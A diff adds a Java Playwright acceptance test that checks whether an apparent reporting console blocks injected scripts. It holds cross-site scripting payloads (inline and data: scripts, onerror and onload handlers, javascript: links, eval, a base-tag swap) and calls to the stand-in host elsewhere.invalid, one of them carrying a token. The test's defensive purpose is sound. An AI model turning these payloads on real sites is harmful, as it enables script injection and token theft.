@@ -1,0 +1,105 @@
+package org.hakimtoto.lab.acceptance.desk;
+
+import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThat;
+
+import org.hakimtoto.lab.acceptance.ApiUser;
+import org.hakimtoto.lab.acceptance.Browser;
+import org.hakimtoto.lab.acceptance.Reports;
+import org.hakimtoto.lab.acceptance.RunningGateway;
+import org.hakimtoto.store.real.RealStores;
+import org.hakimtoto.store.real.WithRealStores;
+import org.junit.jupiter.api.AfterEach;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.condition.EnabledIf;
+import org.junit.jupiter.api.extension.ExtendWith;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+
+/// A script that found its way into a page of the console does not run, and reaches nobody: as if
+/// what escapes the texts had failed.
+@ExtendWith(WithRealStores.class)
+class InjectedScriptAcceptance {
+  private static final String NO_CHROMIUM =
+      "There is no Chromium on this machine (Debian: apt-get install chromium).";
+
+  /// What an injected script could be, each leaves `window.ran`; and what would carry data away.
+  private static final String INJECT =
+      """
+      () => {
+        document.addEventListener('securitypolicyviolation',
+          e => (window.refused = window.refused || []).push(e.effectiveDirective));
+        const add = (tag, set) => {
+          const e = document.createElement(tag); set(e); document.body.append(e); return e; };
+        add('script', e => e.textContent = 'window.ran = "inline"');
+        add('script', e => e.src = 'data:text/javascript,window.ran="data"');
+        add('script', e => e.src = 'https://elsewhere.invalid/x.js');
+        add('div', e => e.innerHTML =
+          '<img src=x onerror="window.ran=1"><svg onload="window.ran=2"></svg>'
+          + '<iframe srcdoc="<script>parent.ran=3</script>"></iframe>');
+        add('a', e => e.href = 'javascript:window.ran="link"').click();
+        add('button', e => e.setAttribute('onclick', 'window.ran="button"')).click();
+        add('script', e => e.textContent = 'eval("window.ran=4")');
+        add('img', e => e.src = 'https://elsewhere.invalid/?token=1');
+        add('link', e => { e.rel = 'stylesheet'; e.href = 'https://elsewhere.invalid/x.css'; });
+        add('base', e => e.href = 'https://elsewhere.invalid/');
+        return fetch('https://elsewhere.invalid/').then(() => 'went', () => 'stayed')
+          .then(went => new Promise(done => setTimeout(() => done(went), 300)));
+      }
+      """;
+
+  private RunningGateway house;
+  private ApiUser user;
+
+  static boolean chromiumIsInstalled() {
+    return Browser.installed().isPresent();
+  }
+
+  @BeforeEach
+  void open(RealStores stores) {
+    house = RunningGateway.openToday(stores);
+    user = ApiUser.of(house, stores);
+  }
+
+  @AfterEach
+  void close() {
+    house.close();
+  }
+
+  @ParameterizedTest
+  @ValueSource(strings = {"desk", "indicators", "menus"})
+  @EnabledIf(value = "chromiumIsInstalled", disabledReason = NO_CHROMIUM)
+  void no_page_runs_or_asks_what_was_injected(String name) {
+    try (var browser = new Browser(1280, 800)) {
+      var page = browser.page();
+      page.navigate(RunningGateway.uri(house.operationsPort(), "/console/" + name).toString());
+
+      assertThat(page.evaluate(INJECT)).isEqualTo("stayed");
+
+      assertThat(page.evaluate("window.ran === undefined")).isEqualTo(true);
+      assertThat(page.evaluate("window.refused.join(' ')").toString())
+          .contains("script-src-elem", "script-src-attr", "img-src", "connect-src", "base-uri");
+      assertThat(page.evaluate("new URL('x', document.baseURI).hostname")).isEqualTo("127.0.0.1");
+      assertThat(browser.hosts()).noneMatch(host -> host != null && host.contains("elsewhere"));
+    }
+  }
+
+  /// A reporter chooses a name; whoever reads it is an officer.
+  @ParameterizedTest
+  @ValueSource(strings = {"<img src=x onerror=window.ran=1>", "\"><script>window.ran=1</script>"})
+  @EnabledIf(value = "chromiumIsInstalled", disabledReason = NO_CHROMIUM)
+  void a_name_that_is_a_script_is_read_as_a_name(String child) {
+    var chief = house.phone("+254700000001");
+    String reference = chief.reports("482915", Reports.naming("0733918264"));
+    chief.names("482915", child);
+    try (var browser = new Browser(1280, 800)) {
+      var desk = new Desk(browser, house, user);
+      desk.enters();
+      desk.actsAs("scco-kibra");
+      desk.opens(reference);
+
+      assertThat(desk.part("file")).containsText(child);
+      assertThat(browser.page().evaluate("window.ran === undefined")).isEqualTo(true);
+    }
+  }
+}
